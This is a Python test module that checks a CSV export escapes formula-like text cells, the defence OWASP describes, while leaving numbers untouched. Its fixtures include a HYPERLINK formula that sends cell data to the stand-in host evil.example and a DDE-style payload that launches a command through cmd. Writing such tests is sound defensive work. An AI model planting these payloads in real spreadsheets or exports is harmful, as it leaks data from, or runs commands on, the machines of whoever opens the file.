"""CSV exports neutralise formulas (OWASP): text cells starting with = + - @ tab CR get a `'`."""

from __future__ import annotations

import csv
import io

import httpx

from app.reporting.csv_safety import neutralise
from tests.factories import make_action, make_commitment

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


def _rows(text: str) -> list[dict[str, str]]:
    lines = text.splitlines()
    assert lines[0] == "sep=;"
    return list(csv.DictReader(io.StringIO("\n".join(lines[1:])), delimiter=";"))


async def test_partner_and_action_names_that_are_formulas_are_exported_as_text(
    client: httpx.AsyncClient, admin: dict[str, str]
) -> None:
    partner = await client.post(
        "/v1/partners", json={"code": "EVIL", "name": HYPERLINK, "kind": "state"}, headers=admin
    )
    assert partner.status_code == 201, partner.text
    action = await make_action(client, admin, title="@SUM(1+1)*cmd|' /C calc'!A0")
    await make_commitment(
        client, admin, partner_id=partner.json()["id"], action_id=action["id"], amount="12.50"
    )
    for decimal in ("point", "comma"):
        answer = await client.get(
            "/v1/aggregates/commitments.csv",
            params={"drilldown": "partner,action", "partner": "EVIL"}
            | ({"decimal": "comma"} if decimal == "comma" else {}),
        )
        assert answer.status_code == 200, answer.text
        (row,) = _rows(answer.text)
        assert row["partner_name"] == "'" + HYPERLINK
        assert row["action_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["planned"] in ("12.50", "12,50")  # numbers stay numbers


def test_only_text_cells_are_escaped_never_numbers() -> None:
    for formula in ("=1+1", "+33 6 12", "-2+3", "@A1", "\t=1", "\r=1", "-", "+"):
        assert neutralise(formula) == "'" + formula
    for number in ("-12.50", "-12,50", "+3", "-7", "1250.00", 42, -3):
        assert neutralise(number) == number
    for harmless in ("Banque des Territoires", "", "'=already quoted", "1=1"):
        assert neutralise(harmless) == harmless
